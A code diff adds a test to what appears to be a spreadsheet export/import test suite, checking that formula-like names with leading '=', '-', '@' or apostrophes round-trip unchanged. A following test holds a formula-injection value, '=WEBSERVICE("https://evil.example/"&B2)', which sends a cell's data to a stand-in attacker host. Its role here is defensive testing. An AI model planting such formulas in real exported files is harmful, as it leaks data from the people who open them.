@@ -267,6 +267,20 @@ describe('entra', () => {
   });
 });
 
+it.each([
+  ...["'=1+1", "''=1+1", "'-5", "''-5", '-5', "'PC-1", "'", "''", "'＝1"],
+  ...['=1+1', '-5-1', "O'Brien", "'+'", '@'],
+])('brings back a name as it was, apostrophes of its own included: %s', (name) => {
+  const candidate = {
+    ...{ keyId: ID, commitment: '', deviceId: 'd-1', volumeId: ID, volumeType: 1, siteId: 'madrid' },
+    ...{ computerName: name, domain: name, users: [name], escrowedAt: 0, state: 'present' },
+  } as unknown as Candidate;
+  const file = EXPORT_HEADER + exportRow(candidate, password, null);
+  expect(text(new SpreadsheetReader({ delimiter: null, map: {} }), file)).toMatchObject([
+    { computerName: name, domain: name, users: [name] },
+  ]);
+});
+
 it('brings back what an export made harmless for spreadsheets', () => {
   const name = '=WEBSERVICE("https://evil.example/"&B2)';
   const candidate = {
